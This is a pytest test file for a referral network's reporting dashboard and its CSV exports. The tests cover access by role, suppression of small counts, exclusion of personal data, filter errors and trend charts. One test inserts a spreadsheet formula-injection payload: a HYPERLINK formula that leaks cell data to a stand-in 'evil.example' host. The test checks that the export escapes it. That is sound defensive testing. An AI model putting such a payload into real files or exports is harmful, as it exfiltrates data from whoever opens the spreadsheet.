"""The dashboard page and its CSV: who may see them, suppression, unmet need, bad filters."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from app.accounts.models import Role
from app.clock import local_date
from app.common import utcnow
from app.extensions import db
from app.search.models import ZeroResultSearch
from tests import factories
from tests.reports.builders import referral_at
from tests.reports.downloads import all_rows, download_tables


@pytest.fixture
def taxonomy(db):  # noqa: ANN001,ANN201
    from app.seeding.taxonomy import load_taxonomies

    load_taxonomies()
    db.session.commit()


@pytest.fixture
def referrals(taxonomy):  # noqa: ANN001,ANN201
    """Six declined for no room, two not eligible: the two are hidden, and so are the six, since
    the declined total (8) would give the two away."""
    counselor = factories.make_user(Role.COUNSELOR, facility=factories.make_facility())
    org = factories.make_organization()
    service = factories.make_service(org, location=factories.make_location(org, town="Waterbury"))
    staff = factories.make_user(Role.PROVIDER, organizations=[org])
    sent = utcnow() - timedelta(days=3)
    for i in range(8):
        reason = "no_capacity" if i < 6 else "not_eligible"
        referral_at(
            counselor,
            staff,
            service,
            sent,
            [("decline", 1, {"reason_code": reason})],
            need_area_code="housing.recovery",
        )
    for _ in range(3):
        db.session.add(ZeroResultSearch(need_areas=["legal"], town="Norwich"))
    db.session.add(ZeroResultSearch(need_areas=["housing.recovery"], town="Norwich"))
    db.session.commit()


def _rows(html_or_csv: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(html_or_csv)))


@pytest.mark.parametrize("role", [Role.ADMIN, Role.ANALYST])
def test_admins_and_analysts_see_suppressed_counts(referrals, client, login, role):  # noqa: ANN001
    login(factories.make_user(role))
    page = client.get("/reports/")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "Network measures" in html
    assert "Declined: No room</th><td>not shown</td>" in html  # 8 - 6 would reveal the 2
    assert "Declined: Not eligible</th><td>not shown</td>" in html
    assert "Declined</th><td>8</td>" in html
    assert "Referrals sent</th><td>8</td>" in html
    # Unmet need by need area: housing has 6 no-room declines, 1 search; legal 3 searches. The
    # 6 is hidden too: the column adds up to "Declined: No room".
    hidden = "<td>not shown</td>"
    assert f'<th scope="row">Housing</th>{hidden * 3}' in html
    assert f'<th scope="row">Norwich</th>{hidden}<td>0</td><td>0</td>' in html
    assert f'<th scope="row">Waterbury</th><td>0</td>{hidden * 2}' in html


def test_csv_hides_the_same_small_counts(referrals, client, login):  # noqa: ANN001
    login(factories.make_user(Role.ANALYST))
    rows = all_rows(download_tables(client))
    assert ["Declined", "8"] in rows
    assert ["Declined: No room", "not shown"] in rows
    assert ["Declined: Not eligible", "not shown"] in rows
    assert ["Norwich", "not shown", "0", "0"] in rows
    assert ["Waterbury", "0", "not shown", "not shown"] in rows
    assert not any(cell in {"1", "2", "3", "4"} for row in rows for cell in row)


def test_csv_shows_a_formula_typed_into_a_search_as_text(referrals, client, login):  # noqa: ANN001
    """Anonymous searchers choose the town text; a spreadsheet must not run it."""
    town = '=HYPERLINK("http://evil.example/?leak="&A1,"Norwich")'
    db.session.add(ZeroResultSearch(need_areas=["legal"], town=town))
    db.session.commit()
    login(factories.make_user(Role.ANALYST))
    rows = all_rows(download_tables(client))
    assert ["'" + town, "not shown", "0", "0"] in rows
    one = client.get("/reports/network/unmet-need-by-town.csv").get_data(as_text=True)
    assert ["'" + town, "not shown", "0", "0"] in _rows(one)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_no_personal_data_on_the_page(referrals, client, login):  # noqa: ANN001
    from sqlalchemy import select

    from app.referrals.models import Client

    login(factories.make_user(Role.ADMIN))
    html = client.get("/reports/").get_data(as_text=True)
    csv_text = str(all_rows(download_tables(client)))
    for person in db.session.scalars(select(Client)):
        assert person.last_name not in html
        assert person.last_name not in csv_text


@pytest.mark.parametrize("role", [Role.COUNSELOR, Role.PROVIDER])
def test_other_staff_are_refused(taxonomy, client, login, role):  # noqa: ANN001
    org = factories.make_organization()
    login(factories.make_user(role, organizations=[org] if role == Role.PROVIDER else []))
    assert client.get("/reports/").status_code == 403
    assert client.get("/reports/network.zip").status_code == 403
    assert client.get("/reports/network/referrals.csv").status_code == 403


def test_anonymous_goes_to_login(client):  # noqa: ANN001
    response = client.get("/reports/")
    assert response.status_code == 302
    assert "/account/login" in response.headers["Location"]


def test_bad_filters_rerender_with_errors(taxonomy, client, login):  # noqa: ANN001
    login(factories.make_user(Role.ANALYST))
    response = client.get("/reports/?start=2026-05-01&end=2026-04-01&facility=nope")
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "The end date must be on or after the start date." in html
    assert 'value="2026-05-01"' in html


def test_period_filter_leaves_out_older_referrals(referrals, client, login):  # noqa: ANN001
    login(factories.make_user(Role.ANALYST))
    old = (datetime.now(UTC) - timedelta(days=400)).date()
    html = client.get(f"/reports/?start={old}&end={old + timedelta(days=30)}").get_data(
        as_text=True
    )
    assert "Referrals sent</th><td>0</td>" in html


def test_full_and_stale_services_by_need_area(taxonomy, client, login):  # noqa: ANN001
    from sqlalchemy import select

    from app.directory.models import TaxonomyTerm
    from app.directory.vocabulary import CapacityStatus

    term = db.session.scalar(select(TaxonomyTerm).where(TaxonomyTerm.code == "housing.recovery"))
    food = db.session.scalar(select(TaxonomyTerm).where(TaxonomyTerm.code == "food"))
    org = factories.make_organization()
    full = factories.make_service(org, taxonomy_terms=[term])
    factories.make_capacity(full, available=0, status=CapacityStatus.NO_CAPACITY)
    stale = factories.make_service(org, taxonomy_terms=[term])
    factories.make_capacity(stale, age_days=30)
    old_and_full = factories.make_service(org, taxonomy_terms=[term, food])
    factories.make_capacity(old_and_full, age_days=30, status=CapacityStatus.NO_CAPACITY)
    roomy = factories.make_service(org, taxonomy_terms=[food])
    factories.make_capacity(roomy)
    login(factories.make_user(Role.ANALYST))
    html = client.get("/reports/").get_data(as_text=True)
    assert '<th scope="row">Housing</th><td>1</td><td>2</td></tr>' in html
    assert '<th scope="row">Food</th><td>0</td><td>1</td></tr>' in html


def test_trend_chart_is_svg_and_hides_small_counts(referrals, client, login):  # noqa: ANN001
    from app.reports.charts import bar_chart

    chart = bar_chart("t", ("Sent", "Accepted"), [("2026-01", [2, 0]), ("2026-02", [5, 10])])
    heights = {bar.title: bar.height for bar in chart.bars}
    # A small count is a short marker, never a bar as tall as a real count of 5.
    assert 0 < heights["2026-01, Sent: fewer than 5"] < heights["2026-02, Sent: 5"]
    assert heights["2026-01, Accepted: 0"] == 0
    assert heights["2026-02, Accepted: 10"] == 2 * heights["2026-02, Sent: 5"]

    login(factories.make_user(Role.ANALYST))
    html = client.get("/reports/").get_data(as_text=True)
    assert "<svg" in html and "<script" not in html
    assert ", Sent: 8</title>" in html


def test_trend_by_week_on_the_page_and_in_the_csv(referrals, client, login):  # noqa: ANN001
    login(factories.make_user(Role.ANALYST))
    sent = local_date(utcnow() - timedelta(days=3))
    start = sent - timedelta(days=sent.weekday())
    monday = f"{start:%b} {start.day}, {start.year}"  # a date as people write it, not 2026-11-30
    html = client.get("/reports/?trend_by=week").get_data(as_text=True)
    assert "Referrals by week sent" in html and "Week starting (Monday)" in html
    assert f'<th scope="row">{monday}</th><td>8</td>' in html
    rows = download_tables(client, {"trend_by": "week"})["Referrals by week sent"]
    assert [monday, "8", "fewer than 5"] not in rows  # no accepted: shown as 0
    assert [monday, "8", "0"] in rows
    monthly = client.get("/reports/").get_data(as_text=True)
    assert "Referrals by month sent" in monthly and monday not in monthly


def test_unknown_trend_step_is_a_form_error(taxonomy, client, login):  # noqa: ANN001
    login(factories.make_user(Role.ANALYST))
    response = client.get("/reports/?trend_by=day")
    assert response.status_code == 422
    assert "Not a valid choice" in response.get_data(as_text=True)
